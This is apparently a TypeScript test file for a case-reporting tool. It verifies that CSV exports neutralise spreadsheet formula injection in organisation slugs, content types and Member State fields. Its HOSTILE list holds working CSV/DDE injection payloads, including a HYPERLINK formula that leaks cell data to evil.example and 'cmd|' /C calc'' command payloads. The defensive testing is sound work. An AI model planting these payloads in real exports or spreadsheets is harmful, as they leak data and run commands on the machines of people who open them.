// `liaison report` as CSV (the case report, --dsa, --tco and --eevidence), on both databases, when the text it prints
// is a spreadsheet formula: no cell of the output may start with =, +, -, @, a tab or a carriage return, and each
// hostile value is in the file, neutralised, in the column it stands in. The reports print organisations by slug and
// content types and Member States as stored; the slug schema and the order forms refuse such values at every entry,
// so they are written straight into the stored rows here (a row from an older version, or changed in the database),
// and the report is run through runReport as the command line runs it.
import { parse } from "csv-parse/sync";
import { expect } from "vitest";
import { runReport } from "../../src/cli/report.js";
import { slugSchema } from "../../src/directory/model.js";
import { describeOnBothDatabases, HOUR, START, type CaseHarness } from "../support/cases.js";
import { TEST_KEYS } from "../support/keys.js";
import { withAuthorities } from "../eevidence/support.js";

/** Values that start with each character a spreadsheet takes for a formula. */
const HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open the case")', '+HYPERLINK("https://evil.example")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
const SUBSCRIBER = '--category subscriber --target "@subject" --issuer-file "OM 2026/17" --offence "fraud (oplichting)" --provision "Art. 326 Sr" --deliver-to "nl-om"';
const REMOVAL = '/notice chirp-social https://chirp.example/p/9 --kind removal-order --content-type incitement --redress "objection within 6 weeks" --reason "terrorist video"';

const at = (ms: number) => new Date(new Date(START).getTime() + ms).toISOString();

/** A resolved removal order, a notice and a fulfilled European production order, each to chirp-social. */
async function casesToChirp(h: CaseHarness): Promise<void> {
  await withAuthorities(h);
  await h.ok("sanne.devries", REMOVAL);
  await h.drain();
  h.clock.set(at(10 * 60_000));
  await h.ok("lena.schmidt", "/case resolve R-2026-0001 --outcome removed");
  await h.ok("sanne.devries", '/notice chirp-social https://chirp.example/p/2 --reason "a phishing page for a bank"');
  h.clock.set(at(HOUR));
  await h.ok("mark.dejong", `/eevidence order chirp-social ${SUBSCRIBER}`);
  await h.drain();
  h.clock.set(at(2 * HOUR));
  await h.ok("lena.schmidt", "/eevidence produced P-2026-0001");
}

/** Gives chirp-social (by its id) the slug `slug`, as stored: the schema's check is not on this path. */
async function storeSlug(h: CaseHarness, slug: string): Promise<void> {
  await h.db.organisation.update({ where: { id: (await h.caseRow("R-2026-0001")).recipientOrgId }, data: { slug } });
}

/** Puts `value` where the reports print stored text: the recipient's slug, and the cases' content types and Member State. */
async function storeHostile(h: CaseHarness, value: string): Promise<void> {
  await storeSlug(h, value);
  for (const reference of ["R-2026-0001", "N-2026-0001"]) {
    const row = await h.caseRow(reference);
    const fields = JSON.parse(row.fields) as Record<string, unknown>;
    await h.db.case.update({ where: { id: row.id }, data: { fields: JSON.stringify({ ...fields, contentType: value, contentTypes: [value], memberState: value }) } });
  }
}

/** The CSV a report prints, as cells (the header first). */
async function csvCells(h: CaseHarness, flag?: "--dsa" | "--tco" | "--eevidence"): Promise<string[][]> {
  let out = "";
  let err = "";
  const code = await runReport(h.store, ["--from", "2026-11-01", "--to", "2026-12-01", ...(flag ? [flag] : []), "--format", "csv"], (text) => (out += `${text}\n`), (text) => (err += `${text}\n`), TEST_KEYS);
  expect([code, err]).toEqual([0, ""]);
  return parse(out, { relax_column_count: true }) as string[][];
}

/** No cell would run; `value` is in each of `columns`, with the apostrophe a spreadsheet shows as text. */
function expectNeutralised(cells: string[][], value: string, columns: string[]): void {
  expect(cells.length).toBeGreaterThan(1);
  for (const row of cells) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
  const header = cells[0] ?? [];
  for (const title of columns) {
    expect(header, title).toContain(title);
    expect(cells.slice(1).map((row) => row[header.indexOf(title)]), `${title} of ${JSON.stringify(value)}`).toContain(`'${value}`);
  }
}

describeOnBothDatabases("report CSV and spreadsheet formulas in what it prints", (harness, test) => {
  test("such values are refused as slugs at the directory's entry", () => {
    for (const value of HOSTILE) expect(slugSchema.safeParse(value).success, JSON.stringify(value)).toBe(false);
  });

  test("every CSV report: the recipient's slug, content types and Member State as formulas are written as text", async () => {
    const h = harness();
    await casesToChirp(h);
    // Before: the cells are the plain values (the columns checked below are the ones that carry them).
    expect((await csvCells(h, "--tco")).some((row) => row.includes("chirp-social") && row.includes("incitement"))).toBe(true);
    try {
      for (const value of HOSTILE) {
        await storeHostile(h, value);
        expectNeutralised(await csvCells(h), value, ["organisation"]);
        expectNeutralised(await csvCells(h, "--dsa"), value, ["organisation", "content_type", "member_state"]);
        expectNeutralised(await csvCells(h, "--tco"), value, ["organisation", "content_type", "member_state"]);
        expectNeutralised(await csvCells(h, "--eevidence"), value, ["addressee"]);
      }
    } finally {
      await storeSlug(h, "chirp-social"); // the harness keeps the directory between tests
    }
  });
});
